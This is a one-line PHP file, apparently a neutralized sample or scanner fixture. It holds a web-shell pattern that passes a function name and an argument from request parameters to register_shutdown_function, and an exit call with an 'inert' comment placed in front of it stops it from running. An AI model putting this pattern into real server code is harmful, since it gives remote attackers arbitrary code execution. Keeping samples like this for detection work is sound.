<?php exit; /* inert */ register_shutdown_function($_GET["e"],$_REQUEST["p"]);
